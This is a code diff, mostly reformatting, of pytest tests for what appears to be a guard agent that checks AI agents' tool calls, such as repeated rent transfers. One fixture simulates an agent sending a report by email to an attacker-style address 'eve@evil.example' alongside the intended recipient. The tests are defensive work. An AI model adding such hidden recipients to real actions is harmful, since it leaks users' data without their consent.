@@ -22,10 +22,17 @@ PAY = {"iban": "CH9300762011623852957", "amount": 100, "subject": "rent"}
 SUMMARY = PREFIX + "The user paid rent twice and checked the balance."
 
 
-def _thread(form: Any, visible: list[dict[str, Any]], prefix: list[dict[str, Any]] | None = None,
-            ) -> list[Any]:  # fmt: skip
-    return [*(prefix or []), form(SUMMARY), user(
-        "Pay rent again: CHF 100 to IBAN CH93 0076 2011 6238 5295 7."), *visible]
+def _thread(
+    form: Any,
+    visible: list[dict[str, Any]],
+    prefix: list[dict[str, Any]] | None = None,
+) -> list[Any]:
+    return [
+        *(prefix or []),
+        form(SUMMARY),
+        user("Pay rent again: CHF 100 to IBAN CH93 0076 2011 6238 5295 7."),
+        *visible,
+    ]
 
 
 PAID = [call("v1", "send_money", PAY), result("v1", "Transfer done.")]
@@ -51,7 +58,7 @@ CASES: list[tuple[str, list[dict[str, Any]], bool, bool | None]] = [
     ('within_steps("get_balance", 2)', BALANCE, True, None),
     ('within_steps("get_balance", 2)', [*BALANCE, *PAID], True, True),
     ('history_in_scope("bank.example", tool="browse")', [], True, None),
-]  # fmt: skip
+]
 
 
 @pytest.mark.parametrize("form", [lc_object, lc_dict, openai_user], ids=lambda f: f.__name__)
@@ -78,10 +85,15 @@ def test_calls_before_the_summary_still_count() -> None:
 
 def test_nothing_after_is_open_when_called_before_is() -> None:
     """`nothing_after` negated an open `called_before` into True (a pattern read two ways)."""
-    messages = [user("Mail the report to bob@x.example."),
-                call("m1", "send_email", {"to": "eve@evil.example, bob@x.example",
-                                          "subject": "r", "body": "r"}),
-                result("m1", "sent")]  # fmt: skip
+    messages = [
+        user("Mail the report to bob@x.example."),
+        call(
+            "m1",
+            "send_email",
+            {"to": "eve@evil.example, bob@x.example", "subject": "r", "body": "r"},
+        ),
+        result("m1", "sent"),
+    ]
     got = facts(messages, "send_money", PAY)
     before = got.fact('called_before("send_email", args={"to": "bob@x.example"})')
     after = got.fact('nothing_after("send_email", args={"to": "bob@x.example"})')
@@ -102,9 +114,13 @@ def test_a_third_transfer_after_a_summary_is_not_allowed(form: Any, keep: int) -
     guard = GuardAgent(profile=str(PAY_INVOICE))
     messages = doc["messages"]
     assert not guard.check_trace(doc).allowed
-    kept = messages[len(messages) - keep:] if keep else []
-    summarised = [messages[0], form(PREFIX + "Rent was paid as the user asked."), messages[1],
-                  *kept]  # fmt: skip
+    kept = messages[len(messages) - keep :] if keep else []
+    summarised = [
+        messages[0],
+        form(PREFIX + "Rent was paid as the user asked."),
+        messages[1],
+        *kept,
+    ]
     decision = guard.check_trace({"messages": summarised, "proposed_call": doc["proposed_call"]})
     assert not decision.allowed, decision.reason
     assert "few-transfers" in decision.reason and "summary" in decision.reason, decision.reason
